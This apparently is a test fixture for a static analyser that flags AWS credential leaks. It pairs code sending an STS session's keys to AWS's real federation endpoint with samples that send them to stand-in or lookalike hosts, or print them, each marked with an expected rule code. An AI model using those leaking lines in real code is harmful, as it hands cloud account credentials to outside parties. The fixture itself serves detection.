"""Links to AWS's console: AWS itself takes a session's keys and gives a token for them."""

SESSION = """\
import json
from urllib.parse import quote_plus, urlencode

import boto3
import requests

keys = boto3.client("sts").assume_role(RoleArn="a", RoleSessionName="b")["Credentials"]
session = json.dumps(
    {
        "sessionId": keys["AccessKeyId"],
        "sessionKey": keys["SecretAccessKey"],
        "sessionToken": keys["SessionToken"],
    }
)
"""

PROGRAMS = {
    "to_aws": f"""\
{SESSION}
URL = "https://signin.aws.amazon.com/federation"
requests.get(URL + "?Action=getSigninToken&Session=" + quote_plus(session))
requests.get(URL, params={{"Action": "getSigninToken", "Session": session}})
requests.get(f"https://us-east-1.signin.aws.amazon.com/federation?{{urlencode({{'Session': session}})}}")
""",
    "to_others": f"""\
{SESSION}
requests.get("https://signin.example.com/federation?Session=" + quote_plus(session))  # expect: CRD206
requests.get("https://example.com/?to=https://signin.aws.amazon.com/", params={{"Session": session}})  # expect: CRD206
requests.get("https://signin.aws.amazon.com.example.com/", params={{"Session": session}})  # expect: CRD206
print("https://signin.aws.amazon.com/federation?Session=" + quote_plus(session))  # expect: CRD201
""",
}
